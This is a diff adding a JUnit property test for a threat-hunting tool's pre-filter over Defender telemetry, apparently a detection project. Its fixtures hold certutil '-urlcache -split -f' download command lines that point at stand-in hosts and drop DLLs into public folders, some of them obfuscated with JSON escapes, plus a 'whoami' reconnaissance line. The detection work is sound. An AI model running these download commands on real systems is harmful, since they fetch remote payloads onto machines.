@@ -1,0 +1,140 @@
+package dev.bazahunt.telemetry;
+
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.FILE_ROW;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.NETWORK_ROW;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.PROCESS_ROW;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.batch;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.envelope;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.withColumn;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.bazahunt.rules.CertutilDownloadRule;
+import dev.bazahunt.rules.ExcelMacroActivity;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.SplittableRandom;
+import org.junit.jupiter.api.Test;
+
+/**
+ * The pre-filter's contract, checked on 20,000 seeded random units: pre-filter-then-parse finds
+ * exactly the rule matches and Excel children that parsing everything finds. The units mix the wire
+ * forms, random letter case, file names and command lines that hide needle letters behind JSON
+ * escapes, escaped slashes, Windows paths and truncation.
+ */
+class RawPrefilterConservativenessTest {
+    private static final String[] FILE_NAMES = {
+        "\"EXCEL.EXE\"", "\"excel.exe\"", "\"ExCeL.ExE\"", "\"excel\\u002eexe\"", "\"\\u0045XCEL.EXE\"",
+        "\"x8k2.exe\"", "\"certutil.exe\"", "\"CMD.EXE\"", "\"svchost.exe\"", "\"\"", "null", "\"excel.exe \"",
+        "\"excel.ex\"", "\"winword.exe\"", "\"e\\u0078cel.exe\"",
+    };
+    private static final String[] COMMAND_LINES = {
+        "\"x8k2.exe  -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php C:\\\\Users\\\\Public\\\\a.dll\"",
+        "\"UPD2.EXE -URLCACHE -SPLIT -F HTTP://198.51.100.7/D.DLL\"",
+        "\"x.exe -\\u0075rlcache -split -f http://a.example/b\"",
+        "\"x.exe -urlcach\\u0065 -split -f http:\\/\\/a.example\\/b\"",
+        "\"x.exe -url\\u0063ache -split -f http://a.example/b\"",
+        "\"x.exe -urlcache -split -f https://a.example/b\"",
+        "\"svchost.exe -k NetworkService -p -s CryptSvc\"",
+        "\"\\\"OneDrive.exe\\\" /background\"",
+        "\"cmd.exe /c whoami /groups\"",
+        "\"x.exe /urlcache /split /f http://198.51.100.7/e.dll\"",
+        "null",
+    };
+
+    @Test
+    void prefilterThenParseFindsWhatParsingEverythingFinds() {
+        SplittableRandom random = new SplittableRandom(20210721);
+        int skipped = 0;
+        int keptWithFindings = 0;
+        for (int i = 0; i < 20_000; i++) {
+            byte[] unit = randomUnit(random).getBytes(StandardCharsets.UTF_8);
+            Findings all = Findings.of(CollectingSink.parse(unit, DefenderTable.DEVICE_FILE_EVENTS));
+            Findings filtered = RawPrefilter.mayMatter(unit)
+                    ? Findings.of(CollectingSink.parse(unit, DefenderTable.DEVICE_FILE_EVENTS))
+                    : Findings.NONE;
+            assertThat(filtered).as(new String(unit, StandardCharsets.UTF_8)).isEqualTo(all);
+            if (!RawPrefilter.mayMatter(unit)) {
+                skipped++;
+            } else if (!all.equals(Findings.NONE)) {
+                keptWithFindings++;
+            }
+        }
+        // The property must not hold vacuously: both outcomes occur often.
+        assertThat(skipped).isGreaterThan(2_000);
+        assertThat(keptWithFindings).isGreaterThan(2_000);
+    }
+
+    private static String randomUnit(SplittableRandom random) {
+        int records = 1 + random.nextInt(3);
+        List<String> rows = new ArrayList<>();
+        for (int r = 0; r < records; r++) {
+            rows.add(randomRow(random));
+        }
+        String unit = switch (random.nextInt(3)) {
+            case 0 -> rows.get(0);
+            case 1 -> envelope(rows.get(0).contains("ProcessId") ? "DeviceProcessEvents" : "DeviceFileEvents",
+                    rows.get(0));
+            default -> batch(rows.stream()
+                    .map(row -> envelope(row.contains("ProcessId") ? "DeviceProcessEvents" : "DeviceFileEvents", row))
+                    .toArray(String[]::new));
+        };
+        if (random.nextInt(10) == 0) {
+            unit = unit.substring(0, random.nextInt(unit.length()));
+        }
+        return random.nextBoolean() ? unit : randomCase(unit, random);
+    }
+
+    private static String randomRow(SplittableRandom random) {
+        String row = switch (random.nextInt(4)) {
+            case 0 -> FILE_ROW;
+            case 1 -> PROCESS_ROW;
+            case 2 -> NETWORK_ROW;
+            default -> RawPrefilterTest.BENIGN_ROW;
+        };
+        if (random.nextInt(4) != 0) {
+            row = withColumn(row, "InitiatingProcessFileName", FILE_NAMES[random.nextInt(FILE_NAMES.length)]);
+        }
+        if (random.nextInt(4) != 0) {
+            row = withColumn(row, "InitiatingProcessCommandLine",
+                    COMMAND_LINES[random.nextInt(COMMAND_LINES.length)]);
+        }
+        return row;
+    }
+
+    /** Flips the case of letters outside escapes, as Defender's mixed-case file names and command lines do. */
+    private static String randomCase(String unit, SplittableRandom random) {
+        StringBuilder text = new StringBuilder(unit.length());
+        for (int i = 0; i < unit.length(); i++) {
+            char c = unit.charAt(i);
+            boolean afterBackslash = i > 0 && unit.charAt(i - 1) == '\\';
+            boolean inUnicodeEscape = i >= 2 && unit.substring(Math.max(0, i - 5), i).contains("\\u");
+            if (!afterBackslash && !inUnicodeEscape && Character.isLetter(c) && random.nextInt(5) == 0) {
+                c = Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c);
+            }
+            text.append(c);
+        }
+        return text.toString();
+    }
+
+    /** What the hunt takes from a unit: rule matches and Excel children, by report id. */
+    private record Findings(List<Long> ruleMatches, List<Long> excelChildren) {
+        static final Findings NONE = new Findings(List.of(), List.of());
+
+        static Findings of(CollectingSink sink) {
+            List<Long> matches = new ArrayList<>();
+            for (DeviceFileEvent event : sink.fileEvents) {
+                if (CertutilDownloadRule.matches(event)) {
+                    matches.add(event.reportId);
+                }
+            }
+            List<Long> children = new ArrayList<>();
+            for (DeviceProcessEvent event : sink.processEvents) {
+                if (ExcelMacroActivity.isExcelChild(event)) {
+                    children.add(event.reportId);
+                }
+            }
+            return new Findings(matches, children);
+        }
+    }
+}
